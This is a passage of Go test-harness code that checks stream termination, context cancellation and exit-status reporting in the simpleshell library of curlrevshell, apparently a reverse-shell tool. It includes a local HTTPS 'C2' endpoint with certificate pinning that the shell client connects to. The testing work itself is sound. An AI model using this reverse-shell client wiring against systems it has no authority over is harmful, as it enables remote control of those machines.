		sh.SetInput(pr)
		go func() {
			if e.Stdin == "open-pipe-data" {
				pw.Write([]byte(strings.Repeat("nobody reads this\n", 50)))
			}
			<-stdinStop
			pw.Close()
		}()
	case "open-osfile":
		pr, pw, err := os.Pipe()
		if err != nil {
			res.setupErr = err.Error()
			return
		}
		defer pr.Close()
		sh.SetInput(pr)
		go func() { <-stdinStop; pw.Close() }()
	case "eof-reader":
		sh.SetInput(strings.NewReader(""))
	}

	out := sh.Output()
	goCh := make(chan error, 1)
	goCtx := context.Background()
	if e.GoCtx {
		goCtx = ctx
	}
	go func() { goCh <- sh.Go(goCtx) }()
	var gotN atomic.Int64
	phase1 := make(chan struct{})
	resume := make(chan struct{})
	consCh := make(chan consOut, 1)
	go func() { consCh <- consumeCtx(out, e.AOut+e.AErr, &gotN, phase1, resume, e.Drain, stop) }()

	timer := time.NewTimer(bound + time.Duration(e.StallMs)*time.Millisecond)
	defer timer.Stop()
	var co consOut
	consDone := false

	// 1. the consumer reads what it reads before the stall; the child goes on
	select {
	case <-phase1:
		res.phase1 = true
	case co = <-consCh:
		consDone = true
	case <-timer.C:
		res.timedOut = true
	}
	if res.phase1 {
		if err := os.WriteFile(filepath.Join(dir, "go"), nil, 0o644); err != nil {
			res.setupErr = err.Error()
		}
		// 2. the child reaches the scripted point (bounded: a child that
		// cannot get there is cancelled where it is, and the case does not
		// count as having exercised the point)
		at := func() bool {
			switch e.Point {
			case "after-exit", "never":
				return childState(dir) == 2
			case "after-last-write":
				rp := readReport(dir)
				return rp != nil && rp.Kind == "done"
			}
			rp := readReport(dir)
			return rp != nil && rp.Out >= e.AOut+e.BOut && rp.Err >= e.AErr+e.BErr
		}
		for dl := time.Now().Add(10 * time.Second); ; {
			if at() {
				res.pointReached = true
				break
			}
			if time.Now().After(dl) || !nap(time.Millisecond, stop) {
				break
			}
		}
		nap(time.Duration(e.PostMs)*time.Millisecond, stop)
		// 3. the context is cancelled; the consumer keeps still
		res.repAtCancel = readReport(dir)
		res.gotAtCancel = int(gotN.Load())
		tc := time.Now()
		if e.Point != "never" {
			cancel()
			res.cancelled = e.hasCtx()
		}
		nap(time.Duration(e.StallMs)*time.Millisecond, stop)
		res.stall = time.Since(tc)
		// 4. the consumer drains the stream
		close(resume)
		select {
		case co = <-consCh:
			consDone = true
			res.cancelToStream = time.Since(tc)
		case <-timer.C:
			res.timedOut = true
		}
	}
	res.terminated = consDone && !co.aborted
	tEnd := time.Now()
	if consDone {
		// an input that was left open ends now, so that exec's stdin copier
		// lets Wait return
		closeStdin()
		select {
		case res.goErr = <-goCh:
			res.goReturned = true
			res.streamEndToGo = time.Since(tEnd)
		case <-timer.C:
			res.goHung = true
		}
	}
	closeStdin()
	if !consDone || res.goHung {
		if pid := readPid(dir); pid != 0 {
			if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' && pi.ppid == os.Getpid() {
				res.killed = true
				syscall.Kill(pid, syscall.SIGKILL)
			}
		}
		cancel()
		if !res.goReturned {
			select {
			case res.goErr = <-goCh:
				res.goReturned = true
			case <-time.After(5 * time.Second):
			}
		}
		if !consDone {
			select {
			case <-resume:
			default:
				close(resume)
			}
			select {
			case co = <-consCh:
				consDone = true
			case <-time.After(3 * time.Second):
			}
		}
		if !consDone {
			closeStop()
			out.Close()
			select {
			case co = <-consCh:
				consDone = true
			case <-time.After(5 * time.Second):
			}
		}
	}
	if consDone {
		res.got, res.termErr, res.reads = co.got, co.err, co.reads
	}
	if res.goReturned && cmd.ProcessState != nil {
		res.procKnown = true
		res.procSuccess = cmd.ProcessState.Success()
		res.procExit = cmd.ProcessState.ExitCode()
		res.procState = cmd.ProcessState.String()
		if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			res.procSignaled = true
			res.procSignal = ws.Signal()
		}
	}
	res.rep = readReport(dir)
	cancel()
	if pid := readPid(dir); pid != 0 {
		if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' && pi.ppid == os.Getpid() {
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
	return
}

func judgeCtx(e *ctxSpec, res *ctxResult) (v verdict) {
	s := e.C
	add := func(key, f string, a ...any) { v.viol = append(v.viol, finding{key, fmt.Sprintf(f, a...)}) }
	if res.setupErr != "" {
		v.inconcl = append(v.inconcl, fmt.Sprintf("ctx case %d: setup failed: %s", s.Index, res.setupErr))
		return
	}
	outB, errB, junk := splitAlphabets(res.got)
	v.gotOut, v.gotErr = len(outB), len(errB)
	if junk >= 0 {
		add("output-corrupt", "byte %#02x at offset %d of Output() belongs to neither descriptor's alphabet (context %q)", res.got[junk], junk, res.got[max(0, junk-8):min(len(res.got), junk+24)])
	}
	if i := firstBad(outB, 'a'); i >= 0 {
		add("output-corrupt", "stdout bytes are not the sequence the child wrote: first wrong byte at stdout offset %d (got %q, want %q) of %d received", i, outB[i], 'a'+byte(pos(i)), len(outB))
	}
	if i := firstBad(errB, 'A'); i >= 0 {
		add("output-corrupt", "stderr bytes are not the sequence the child wrote: first wrong byte at stderr offset %d (got %q, want %q) of %d received", i, errB[i], 'A'+byte(pos(i)), len(errB))
	}
	if len(outB) > s.NOut || len(errB) > s.NErr {
		add("output-corrupt", "more bytes delivered than the child can have written: stdout %d of %d, stderr %d of %d", len(outB), s.NOut, len(errB), s.NErr)
	}
	if res.timedOut {
		v.timeout = true
		return
	}
	if !res.terminated {
		v.inconcl = append(v.inconcl, fmt.Sprintf("ctx case %d: consumer aborted without a terminal condition", s.Index))
		return
	}
	rp := res.rep
	if rp == nil {
		v.inconcl = append(v.inconcl, fmt.Sprintf("ctx case %d: the child left no account of what it wrote", s.Index))
		return
	}
	// The report is written after the writes it counts, whatever ended the
	// child afterwards: a lower bound, exact when it is the final one.
	if errors.Is(res.termErr, io.EOF) {
		how := "it ended by itself"
		if res.cancelled {
			how = fmt.Sprintf("its context was cancelled when it had reported %s and the consumer had read %d bytes; the consumer resumed %d ms later", repStr(res.repAtCancel), res.gotAtCancel, res.stall.Milliseconds())
		}
		if v.gotOut < rp.Out {
			add("stdout-truncated", "Output() ended cleanly (EOF) after %d of the %d stdout bytes the child reports having written (%s; Go returned %s)", v.gotOut, rp.Out, how, errStr(res.goErr))
		}
		if v.gotErr < rp.Err {
			add("stderr-truncated", "Output() ended cleanly (EOF) after %d of the %d stderr bytes the child reports having written (%s; Go returned %s)", v.gotErr, rp.Err, how, errStr(res.goErr))
		}
		if v.gotOut >= rp.Out && v.gotErr >= rp.Err {
			v.complete = true
		}
		if rp.Kind == "done" && (rp.Out != s.NOut || rp.Err != s.NErr) {
			v.inconcl = append(v.inconcl, fmt.Sprintf("ctx case %d: child reports %d/%d bytes written, plan was %d/%d", s.Index, rp.Out, rp.Err, s.NOut, s.NErr))
		}
	} else if !res.cancelled {
		add("output-ends-with-error", "Output() ended with %q instead of io.EOF although the child ended on its own (%s) and no context was cancelled", errStr(res.termErr), s.exitDesc())
	} else if e.WaitDelayMs == 0 {
		// a cancelled context ends the command, nothing else: only a WaitDelay the CALLER asked
		// for lets os/exec close the pipes under the relay.  Without one the stream still ends
		// once the command has exited and its output has been drained.
		add("output-ends-with-error", "Output() ended with %q instead of io.EOF after the command's context was cancelled, although the caller set no WaitDelay: %d of %d stdout and %d of %d stderr bytes the child reports having written had arrived (consumer resumed %d ms after the cancellation)", errStr(res.termErr), v.gotOut, rp.Out, v.gotErr, rp.Err, res.stall.Milliseconds())
	}
	switch {
	case res.goHung:
		v.inconcl = append(v.inconcl, fmt.Sprintf("ctx case %d: Go had not returned when the bound expired although Output() had ended and the input was closed", s.Index))
	case res.goReturned && res.procKnown && !res.procSuccess && res.goErr == nil && !res.killed:
		if res.procSignaled {
			add("signal-death-not-reported", "the child was killed by a signal (wait status: %s) and Go returned nil", res.procState)
		} else {
			add("nonzero-exit-not-reported", "the child exited with status %d and Go returned nil", res.procExit)
		}
	}
	return
}

func repStr(rp *report) string {
	if rp == nil {
		return "nothing yet"
	}
	return fmt.Sprintf("%d stdout and %d stderr bytes written (%s)", rp.Out, rp.Err, rp.Kind)
}

func witnessCtx(e *ctxSpec, res *ctxResult, v verdict, dir string) map[string]any {
	s := e.C
	_, text := s.script(dir)
	if len(text) > 6000 {
		text = text[:3000] + "\n…(plan shortened)…\n" + text[len(text)-1500:]
	}
	return map[string]any{
		"build": e.Build, "caller_wait_delay_ms": e.WaitDelayMs, "child_ignores_sigterm": e.IgnoreTerm, "go_gets_the_commands_context": e.GoCtx,
		"cancel_point": e.Point, "mid_write_kind": e.MidKind, "input": e.Stdin,
		"bytes_read_before_stall": []int{e.AOut, e.AErr}, "bytes_written_after_that": []int{e.BOut, e.BErr}, "write_size_of_those": e.WB,
		"bytes_still_to_write_at_cancel": []int{e.COut, e.CErr},
		"pause_before_cancel_ms":         e.PostMs, "stall_after_cancel_ms_planned": e.StallMs, "stall_after_cancel_ms_actual": res.stall.Milliseconds(),
		"drain": e.Drain, "child_script": text, "exit_status_planned": s.Exit,
		"point_reached": res.pointReached, "context_cancelled": res.cancelled,
		"child_report_at_cancel": repStr(res.repAtCancel), "consumer_bytes_at_cancel": res.gotAtCancel,
		"child_report_final": repStr(res.rep), "wait_status": res.procState,
		"stdout_bytes_received": v.gotOut, "stderr_bytes_received": v.gotErr,
		"output_terminal_condition": errStr(res.termErr), "output_ended_within_bound": res.terminated,
		"go_returned": res.goReturned, "go_error": errStr(res.goErr), "reads": res.reads, "wall_ms": res.wall.Milliseconds(),
	}
}

func runCtxEngine(r *mon.Run) {
	if !r.WantEngine(ctxEngine) {
		return
	}
	n := r.N(2*len(ctxStallsQuick)*len(ctxBuilds), 16*len(ctxStallsThorough)*len(ctxBuilds))
	var mu sync.Mutex
	var timeouts []int
	sampled := 0

	one := func(i int, bound time.Duration, retry bool) (timedOut bool) {
		e := genCtx(r, i)
		dir := filepath.Join(r.Work, fmt.Sprintf("x%d", i))
		if retry {
			dir += "r"
		}
		res := runCtx(e, dir, bound)
		defer os.RemoveAll(dir)
		v := judgeCtx(e, res)
		if !retry {
			r.Eval(1)
			r.Distinct(e.sig())
			r.Count("ctx_cases", 1)
			r.Count("ctx_build_"+e.Build+"_cases", 1)
			if e.WaitDelayMs > 0 {
				r.Count("ctx_caller_waitdelay_cases", 1)
			}
			r.Count("ctx_bytes_received", int64(len(res.got)))
			clean := res.terminated && errors.Is(res.termErr, io.EOF)
			if res.terminated {
				if clean {
					r.Count("ctx_eof_terminations", 1)
				} else {
					r.Count("ctx_error_terminations", 1)
					if e.WaitDelayMs > 0 {
						r.Count("ctx_error_terminations_with_caller_waitdelay", 1)
					}
					if rp := res.rep; rp != nil && (v.gotOut < rp.Out || v.gotErr < rp.Err) {
						r.Count("ctx_error_terminations_with_bytes_missing", 1)
					}
				}
			}
			if v.complete {
				r.Count("ctx_cases_complete_and_exact", 1)
			}
			if res.pointReached {
				r.Count("ctx_point_"+e.Point+"_cases", 1)
				if e.MidKind != "" {
					r.Count("ctx_point_mid-write_"+e.MidKind+"_cases", 1)
				}
			} else {
				r.Count("ctx_point_not_reached_cases", 1)
			}
			stalled1s := res.stall > time.Second
			if stalled1s {
				r.Count("ctx_consumer_stalled_over_1s_cases", 1)
			}
			if res.cancelled && res.pointReached {
				r.Count("ctx_cancelled_cases", 1)
				unread := 0
				if rp := res.repAtCancel; rp != nil {
					unread = rp.Out + rp.Err - res.gotAtCancel
				}
				r.Count("ctx_bytes_unread_at_cancel", int64(max(unread, 0)))
				switch {
				case unread >= 2*pipeCap:
					r.Count("ctx_cancel_with_128KiB_or_more_unread_cases", 1)
					fallthrough
				case unread > relayBuf:
					r.Count("ctx_cancel_with_more_than_32KiB_unread_cases", 1)
					fallthrough
				case unread > 0:
					r.Count("ctx_cancel_with_unread_output_cases", 1)
				default:
					r.Count("ctx_cancel_with_nothing_unread_cases", 1)
				}
				if stalled1s {
					r.Count("ctx_cancelled_then_stalled_over_1s_cases", 1)
					if unread > relayBuf {
						r.Count("ctx_cancelled_then_stalled_over_1s_with_more_than_32KiB_unread_cases", 1)
						if strings.HasPrefix(e.Stdin, "open-pipe") {
							r.Count("ctx_cancelled_then_stalled_over_1s_with_more_than_32KiB_unread_and_input_open_cases", 1)
						}
					}
				}
				if res.procKnown {
					switch {
					case res.procSignaled && res.procSignal == syscall.SIGKILL:
						r.Count("ctx_child_killed_by_context_cases", 1)
					case !res.procSignaled && res.procExit == 98:
						r.Count("ctx_child_ended_by_its_sigterm_handler_cases", 1)
					case !res.procSignaled && res.procExit == e.C.Exit && e.endsByItself() && e.Point != "after-exit":
						r.Count("ctx_child_outlived_cancellation_cases", 1)
					}
				}
			}
			if strings.HasPrefix(e.Stdin, "open-pipe") {
				r.Count("ctx_input_open_nonfile_cases", 1)
			} else {
				r.Count("ctx_input_"+e.Stdin+"_cases", 1)
			}
			if res.procKnown && !res.procSuccess {
				r.Count("ctx_unsuccessful_exit_cases", 1)
				if res.goErr != nil {
					r.Count("ctx_unsuccessful_exit_reported", 1)
				}
			}
			if res.goHung || !res.goReturned {
				r.Count("ctx_go_did_not_return_in_time", 1)
			}
			if res.killed {
				r.Count("children_killed_by_harness", 1)
			}
			if res.wall > time.Duration(e.StallMs)*time.Millisecond+4*time.Second {
				r.Count("ctx_cases_4s_longer_than_their_stall", 1)
				r.Logf("ctx case %d took %s: %s", i, res.wall.Round(time.Millisecond), e.sig())
			}
		}
		if r.Replaying() {
			w := witnessCtx(e, res, v, dir)
			delete(w, "child_script")
			r.Logf("ctx case %d: %v", i, w)
		}
		seen := map[string]bool{}
		for _, f := range v.viol {
			if seen[f.key] {
				continue
			}
			seen[f.key] = true
			r.Violate(ctxEngine, i, f.key, e.desc()+": "+f.what, witnessCtx(e, res, v, dir))
		}
		for _, m := range v.inconcl {
			r.Inconclusive(m)
		}
		if v.timeout {
			if retry {
				r.Violate(ctxEngine, i, "output-stream-does-not-end:ctx", fmt.Sprintf("%s: Output() had not ended %s after the start, also when the case ran alone; %d stdout and %d stderr bytes had arrived", e.desc(), bound, v.gotOut, v.gotErr), witnessCtx(e, res, v, dir))
			}
			return true
		}
		if retry {
			r.Inconclusive(fmt.Sprintf("ctx case %d: Output() did not end within 30 s under load but did when run alone", i))
		}
		mu.Lock()
		take := sampled < 2 && !retry && res.cancelled && res.pointReached && e.BOut+e.BErr > relayBuf && len(e.C.Ops) <= 40
		if take {
			sampled++
		}
		mu.Unlock()
		if take {
			r.Sample("ctx", witnessCtx(e, res, v, dir))
		}
		return false
	}

	bound := 30 * time.Second
	if r.Replaying() {
		for i := 0; i < n; i++ {
			if r.Want(ctxEngine, i) {
				if one(i, bound, false) {
					one(i, 2*bound, true)
				}
			}
		}
		return
	}
	mon.Parallel(n, ctxWorkers, func(i int) {
		if one(i, bound, false) {
			mu.Lock()
			timeouts = append(timeouts, i)
			mu.Unlock()
		}
	})
	r.Count("ctx_cases_not_ended_within_bound", int64(len(timeouts)))
	for k, i := range timeouts {
		if k >= maxRetry {
			r.Inconclusive(fmt.Sprintf("ctx case %d: Output() did not end within %s; not re-run alone (only the first %d are)", i, bound, maxRetry))
			continue
		}
		one(i, 2*bound, true)
	}

	N := int64(n)
	r.Floor("ctx_cases", N*9/10)
	for _, b := range ctxBuilds {
		r.Floor("ctx_build_"+b+"_cases", N/8)
	}
	r.Floor("ctx_caller_waitdelay_cases", N/4)
	r.Floor("ctx_point_after-last-write_cases", N/5)
	r.Floor("ctx_point_mid-write_cases", N/5)
	r.Floor("ctx_point_mid-write_blocked_cases", N/12)
	r.Floor("ctx_point_mid-write_pause_cases", N/24)
	r.Floor("ctx_point_after-exit_cases", N/12)
	r.Floor("ctx_point_never_cases", N/12)
	r.Floor("ctx_cancelled_cases", N/2)
	r.Floor("ctx_cancel_with_unread_output_cases", N/3)
	r.Floor("ctx_cancel_with_more_than_32KiB_unread_cases", N/4)
	r.Floor("ctx_cancel_with_128KiB_or_more_unread_cases", N/24)
	r.Floor("ctx_cancel_with_nothing_unread_cases", 1)
	r.Floor("ctx_consumer_stalled_over_1s_cases", N/2)
	r.Floor("ctx_cancelled_then_stalled_over_1s_cases", N/3)
	r.Floor("ctx_cancelled_then_stalled_over_1s_with_more_than_32KiB_unread_cases", N/6)
	r.Floor("ctx_cancelled_then_stalled_over_1s_with_more_than_32KiB_unread_and_input_open_cases", N/12)
	r.Floor("ctx_child_killed_by_context_cases", N/8)
	r.Floor("ctx_child_ended_by_its_sigterm_handler_cases", N/24)
	r.Floor("ctx_child_outlived_cancellation_cases", N/12)
	r.Floor("ctx_input_open_nonfile_cases", N/3)
	r.Floor("ctx_unsuccessful_exit_cases", N/4)
	r.Floor("ctx_eof_terminations", N/2)
	r.Floor("ctx_cases_complete_and_exact", N/2)
	r.Floor("ctx_bytes_received", N*32768)
}

package c14

// Engine "leave-e2e": the e2e analogue of the consumer that leaves.  The child
// runs through simpleshell.Go against a harness HTTPS server (HTTP/1.1 and
// HTTP/2 alternate).  The handler reads an exact number of bytes of the request
// body and then goes away while the child is waiting at a gate: it closes the
// TLS connection, resets the TCP connection, aborts (http.ErrAbortHandler) or
// simply returns without reading the rest.  The child then writes again (first
// part), the harness waits until net/http has closed the reader it got from
// Output() (observed through a Shell that wraps the CmdShell and records the
// Close; HTTP/1.1 notices only when it tries to send the first part, HTTP/2 at
// once), the child writes a second part and ends: exit 0, non-zero, a signal to
// itself, or its context is cancelled.  simpleshell.Go must return an error
// whenever the wait status is unsuccessful; with exit 0 anything goes.

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

const (
	leaveE2EEngine  = "leave-e2e"
	leaveE2EWorkers = 8
)

var leaveE2EEnds = []string{"nonzero", "signal", "ctx-kill", "exit0", "nonzero", "signal"}

// A server that returns from (or aborts) an HTTP/1.1 handler goes on draining
// the request body for a while, so the connection-level ways get more room.
var leaveE2EWays = []string{"conn-close", "conn-reset", "abort-handler", "conn-close", "handler-return", "conn-reset"}

type leaveE2ESpec struct {
	C          *spec
	Proto      string // h1 | h2
	Way        string // how the server goes away
	End        string
	K, U       int // read by the server before it goes / written by the child by then and not read by the server
	AOut, AErr int
	B1, B2     [2]int // written after the server has gone: before / after net/http has closed the Output() reader
	W1, W2     [2]int
	PreN       int
	pre        []byte
	ReadChunks []int
	LagMs      int
	PinPrefix  bool
	DrainInput bool // the child reads its input to the end before it ends
}

func genLeaveE2E(r *mon.Run, i int) *leaveE2ESpec {
	rng := r.Rng(leaveE2EEngine, i)
	c := &spec{Index: i, Mode: "pattern", Flavor: "perl"}
	e := &leaveE2ESpec{C: c}
	e.Proto = []string{"h1", "h2"}[i%2]
	e.Way = leaveE2EWays[(i/2)%len(leaveE2EWays)]
	e.End = leaveE2EEnds[(i/12+i)%6]
	switch e.End {
	case "nonzero":
		c.Exit = []int{1, 3, 255}[rng.IntN(3)]
	case "signal":
		k := 0 // the how-manieth case that ends by a signal: every signal gets its turn
		for j := 0; j < i; j++ {
			if leaveE2EEnds[(j/12+j)%6] == "signal" {
				k++
			}
		}
		c.Sig = sigSet[k%len(sigSet)]
	}
	e.PinPrefix = rng.IntN(2) == 0
	e.LagMs = []int{0, 0, 3, 20}[rng.IntN(4)]
	e.K = []int{0, 1, 10, 4096, 65536, 65537, 200000, 400000}[rng.IntN(8)]
	e.U = []int{0, 0, 1, 4096, 40000}[rng.IntN(5)]
	a := e.K + e.U
	switch rng.IntN(4) {
	case 0:
		e.AOut = a
	case 1:
		e.AErr = a
	default:
		e.AOut = rng.IntN(a + 1)
		e.AErr = a - e.AOut
	}
	for k := 1 + rng.IntN(3); k > 0; k-- {
		e.ReadChunks = append(e.ReadChunks, []int{1000, 4096, 16384, 65536}[rng.IntN(4)])
	}
	var ops []op
	c.Stdin.Kind = "response-body"
	if rng.IntN(2) == 0 {
		e.PreN = []int{1, 100, 5000}[rng.IntN(3)]
		e.pre = make([]byte, e.PreN)
		fillRand(rng, e.pre)
		ops = append(ops, op{K: "I", N: e.PreN})
		c.Stdin.N = e.PreN
	}
	so, do := writeSizes(rng, e.AOut)
	se, de := writeSizes(rng, e.AErr)
	c.WOut, c.WErr = do, de
	c.Interleave = []string{"out-first", "err-first", "random", "alternate"}[rng.IntN(4)]
	ops = append(ops, mergeOps(rng, c.Interleave, so, se)...)
	ops = append(ops, op{K: "Q"}, op{K: "G"})
	split := func(n, w int) (s []int) {
		for ; n > 0; n -= w {
			s = append(s, min(w, n))
		}
		return
	}
	// what is written after the server has gone stays in the child's pipes
	// once the relay has ended: a few KiB per descriptor at most
	part := func(atLeastOne bool) (b, w [2]int) {
		for fd := 0; fd < 2; fd++ {
			b[fd] = []int{0, 1, 100, 1000, 8192}[rng.IntN(5)]
			w[fd] = []int{1, 100, 4096}[rng.IntN(3)]
			if b[fd]/w[fd] > 8 {
				w[fd] = b[fd]/8 + 1
			}
		}
		if atLeastOne && b[0]+b[1] == 0 {
			b[rng.IntN(2)] = 1 + rng.IntN(500)
		}
		return
	}
	e.B1, e.W1 = part(rng.IntN(8) != 0)
	e.B2, e.W2 = part(rng.IntN(8) != 0)
	for _, o := range mergeOps(rng, "random", split(e.B1[0], e.W1[0]), split(e.B1[1], e.W1[1])) {
		o.P = rng.IntN(1001)
		ops = append(ops, o, op{K: "Q"})
	}
	ops = append(ops, op{K: "G", N: 1})
	for _, o := range mergeOps(rng, "random", split(e.B2[0], e.W2[0]), split(e.B2[1], e.W2[1])) {
		o.P = rng.IntN(1001)
		ops = append(ops, o, op{K: "Q"})
	}
	// (an HTTP/1.1 server whose handler aborted neither ends the response nor
	// closes the connection while it waits for more of the request body: the
	// input would not end before the child does)
	if e.DrainInput = rng.IntN(3) == 0 && !(e.Proto == "h1" && e.Way == "abort-handler"); e.DrainInput {
		ops = append(ops, op{K: "E"})
	}
	ops = append(ops, op{K: "R"})
	switch {
	case e.End == "ctx-kill":
		c.ExitMode, c.LingerMs = "linger", 20000
		ops = append(ops, op{K: "S", N: 20_000_000})
	case rng.IntN(2) == 0:
		c.ExitMode, c.LingerMs = "linger", 1+rng.IntN(40)
		ops = append(ops, op{K: "S", N: c.LingerMs * 1000})
	default:
		c.ExitMode = "after-report"
	}
	c.Ops = ops
	c.NOut, c.NErr = e.AOut+e.B1[0]+e.B2[0], e.AErr+e.B1[1]+e.B2[1]
	return e
}

func (e *leaveE2ESpec) sig() string {
	c := e.C
	return fmt.Sprintf("leave-e2e|%s|%s|%s|%d|%d|%d|%d|%v|%v|%v|%v|%d|%v|%d|%v|%v|%d%s|%s|%s",
		e.Proto, e.Way, e.End, e.K, e.U, e.AOut, e.AErr, e.B1, e.B2, e.W1, e.W2, e.PreN, e.ReadChunks, e.LagMs, e.PinPrefix, e.DrainInput,
		c.Exit, c.Sig, c.ExitMode, c.Interleave)
}

func (e *leaveE2ESpec) desc() string {
	end := e.C.exitDesc()
	if e.End == "ctx-kill" {
		end = "cancellation of its context (SIGKILL)"
	}
	return fmt.Sprintf("leave-e2e case %d (%s; the server reads %d bytes of the request body, then goes away by %s; the child writes %d+%d bytes, then %d+%d more, and ends by %s)",
		e.C.Index, e.Proto, e.K, e.Way, e.B1[0], e.B1[1], e.B2[0], e.B2[1], end)
}

// watchedShell is a Shell that hands simpleshell.Go the CmdShell's output
// through a reader that records when it is closed.
type watchedShell struct {
	*simpleshell.CmdShell
	out *watchedOut
}

func (w *watchedShell) Output() io.ReadCloser { return w.out }

type watchedOut struct {
	rc     io.ReadCloser
	once   sync.Once
	closed chan struct{}
	read   atomic.Int64
}

func (o *watchedOut) Read(p []byte) (int, error) {
	n, err := o.rc.Read(p)
	o.read.Add(int64(n))
	return n, err
}

func (o *watchedOut) Close() error {
	err := o.rc.Close()
	o.once.Do(func() { close(o.closed) })
	return err
}

type connKey struct{}

type leaveE2EResult struct {
	mu            sync.Mutex
	handlerCalled bool
	extraCalls    int
	proto         string
	got           []byte
	bodyErr       error
	bodyEnded     bool // the request body ended by itself before the server had its K bytes
	preSent       int
	preWriteErr   error
	leaveErr      string

	readK         bool
	pointReached  bool
	aliveAtLeave  bool
	serverLeft    bool
	closedSeen    bool // net/http closed the reader it got from Output()
	aliveAtClose  bool
	repAtLeave    *report
	repAtClose    *report
	sentAtClose   int64 // bytes net/http had taken from Output() by then
	cancelled     bool
	exitSeen      bool
	goErr         error
	goReturned    bool
	goHung        bool
	timedOut      bool
	killed        bool
	rep           *report
	procKnown     bool
	procSuccess   bool
	procExit      int
	procSignaled  bool
	procSignal    syscall.Signal
	procState     string
	seen          []byte
	setupErr      string
	wall          time.Duration
	closeToReturn time.Duration
}

func runLeaveE2E(e *leaveE2ESpec, tl *e2eTLS, dir string, bound time.Duration) (res *leaveE2EResult) {
	res = &leaveE2EResult{}
	c := e.C
	t0 := time.Now()
	deadline := t0.Add(bound)
	defer func() { res.wall = time.Since(t0) }()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		res.setupErr = err.Error()
		return
	}
	prog, text := c.script(dir)
	path := filepath.Join(dir, "child")
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		res.setupErr = err.Error()
		return
	}
	stop := make(chan struct{})
	var stopOnce sync.Once
	closeStop := func() { stopOnce.Do(func() { close(stop) }) }
	defer closeStop()
	handlerDone := make(chan struct{})
	readK := make(chan struct{})
	leaveNow := make(chan struct{})
	left := make(chan struct{})
	var calls atomic.Int32

	handler := func(w http.ResponseWriter, r *http.Request) {
		if calls.Add(1) != 1 {
			res.mu.Lock()
			res.extraCalls++
			res.mu.Unlock()
			http.Error(w, "one shell only", http.StatusServiceUnavailable)
			return
		}
		defer close(handlerDone)
		rc := http.NewResponseController(w)
		rc.EnableFullDuplex()
		w.WriteHeader(http.StatusOK)
		flErr := rc.Flush()
		res.mu.Lock()
		res.handlerCalled, res.proto, res.preWriteErr = true, r.Proto, flErr
		res.mu.Unlock()
		if len(e.pre) > 0 {
			rc.SetWriteDeadline(time.Now().Add(20 * time.Second))
			_, err := w.Write(e.pre)
			if err == nil {
				err = rc.Flush()
			}
			res.mu.Lock()
			if err != nil {
				res.preWriteErr = err
			} else {
				res.preSent = len(e.pre)
			}
			res.mu.Unlock()
		}
		buf := make([]byte, 65536)
		for k, got := 0, 0; got < e.K; k++ {
			n, err := r.Body.Read(buf[:min(e.ReadChunks[k%len(e.ReadChunks)], e.K-got)])
			got += n
			res.mu.Lock()
			res.got = append(res.got, buf[:n]...)
			if err != nil {
				res.bodyErr = err
				select {
				case <-stop:
				default:
					res.bodyEnded = true
				}
			}
			res.mu.Unlock()
			if err != nil {
				return
			}
		}
		close(readK)
		select {
		case <-leaveNow:
		case <-stop:
			return
		}
		nap(time.Duration(e.LagMs)*time.Millisecond, stop)
		conn, _ := r.Context().Value(connKey{}).(net.Conn)
		var lerr error
		switch e.Way {
		case "conn-close":
			if conn == nil {
				lerr = fmt.Errorf("no connection in the request's context")
			} else {
				lerr = conn.Close()
			}
		case "conn-reset":
			var tcp *net.TCPConn
			if tc, ok := conn.(*tls.Conn); ok {
				tcp, _ = tc.NetConn().(*net.TCPConn)
			}
			if tcp == nil {
				lerr = fmt.Errorf("no TCP connection under the request's connection (%T)", conn)
			} else {
				tcp.SetLinger(0)
				lerr = tcp.Close()
			}
		case "abort-handler":
			close(left)
			panic(http.ErrAbortHandler)
		}
		if lerr != nil {
			res.mu.Lock()
			res.leaveErr = lerr.Error()
			res.mu.Unlock()
		}
		close(left)
	}

	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		res.setupErr = "listen: " + err.Error()
		return
	}
	mux := http.NewServeMux()
	mux.HandleFunc(simpleshell.IOPath, handler)
	srv := &http.Server{
		Handler:     mux,
		TLSConfig:   &tls.Config{Certificates: []tls.Certificate{tl.cert}, MinVersion: tls.VersionTLS12},
		ErrorLog:    log.New(io.Discard, "", 0),
		ConnContext: func(ctx context.Context, c net.Conn) context.Context { return context.WithValue(ctx, connKey{}, c) },
	}
	if e.Proto == "h1" {
		srv.TLSNextProto = map[string]func(*http.Server, *tls.Conn, http.Handler){}
	}
	srvDone := make(chan struct{})
	go func() {
		defer close(srvDone)
		srv.ServeTLS(rcvbufListener{ln, 0}, "", "")
	}()
	defer func() {
		srv.Close()
		<-srvDone
	}()

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	cmd := exec.CommandContext(ctx, prog, path)
	cmd.Dir = dir
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	csh, err := simpleshell.NewCmdShell(cmd)
	if err != nil {
		res.setupErr = "NewCmdShell: " + err.Error()
		return
	}
	wo := &watchedOut{rc: csh.Output(), closed: make(chan struct{})}
	sh := &watchedShell{CmdShell: csh, out: wo}
	fp := tl.pin
	if e.PinPrefix {
		fp = "sha256//" + fp
	}
	conf := simpleshell.ConnConfig{C2: "https://" + ln.Addr().String() + simpleshell.IOPath, Fingerprint: fp}
	goCh := make(chan error, 1)
	go func() { goCh <- simpleshell.Go(context.Background(), conf, sh) }()

	until := func(max time.Duration, cond func() bool) bool {
		dl := time.Now().Add(max)
		if dl.After(deadline) {
			dl = deadline
		}
		for {
			if cond() {
				return true
			}
			if time.Now().After(dl) {
				return false
			}
			time.Sleep(time.Millisecond)
		}
	}
	isClosed := func(ch <-chan struct{}) bool {
		select {
		case <-ch:
			return true
		default:
			return false
		}
	}
	goDone := func() bool {
		if res.goReturned {
			return true
		}
		select {
		case res.goErr = <-goCh:
			res.goReturned = true
			return true
		default:
			return false
		}
	}

	// 1. the server reads its K bytes
